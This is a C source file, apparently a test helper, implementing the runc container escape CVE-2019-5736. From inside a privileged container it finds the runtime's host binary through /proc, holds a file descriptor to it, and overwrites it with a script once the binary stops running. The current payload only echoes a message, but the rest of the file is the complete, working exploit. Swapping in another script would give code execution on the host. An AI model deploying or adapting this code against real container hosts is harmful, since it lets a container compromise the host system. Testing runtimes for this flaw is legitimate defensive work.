/*
 * Inside a privileged container, takes hold of the program file of whoever comes in by attach, waits until nobody runs it, and
 * overwrites it (CVE-2019-5736).
 *
 *   overwrite SECONDS
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char poison[] = "#!/bin/sh\necho the host runs what a container wrote\n";

static int is_guest(const struct stat *program)
{
	struct stat guest;
	return stat("/bin/busybox", &guest) == 0 && guest.st_dev == program->st_dev && guest.st_ino == program->st_ino;
}

/* The file that another process runs, when it is not one of the container's own. */
static int foreign_program(const char *pid)
{
	char path[64];
	struct stat own, program;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_PATH);
	if (fd < 0)
		return -1;
	if (fstat(fd, &program) == 0 && stat("/proc/self/exe", &own) == 0 &&
	    (own.st_dev != program.st_dev || own.st_ino != program.st_ino) && !is_guest(&program))
		return fd;
	close(fd);
	return -1;
}

static int overwrite(int held)
{
	char path[32];
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	int fd = open(path, O_WRONLY); /* ETXTBSY while it runs */
	if (fd < 0)
		return 0;
	int done = write(fd, poison, sizeof poison - 1) > 0;
	close(fd);
	return done;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
	int held = -1;
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	while (time(NULL) < end) {
		DIR *proc = held < 0 ? opendir("/proc") : NULL;
		for (struct dirent *entry; proc && held < 0 && (entry = readdir(proc));)
			if (isdigit((unsigned char)*entry->d_name) && (held = foreign_program(entry->d_name)) >= 0)
				printf("holds /proc/%s/exe\n", entry->d_name);
		if (proc)
			closedir(proc);
		if (held >= 0 && overwrite(held)) {
			printf("overwrote it\n");
			return 0;
		}
	}
	printf("gave up\n");
	return 0;
}
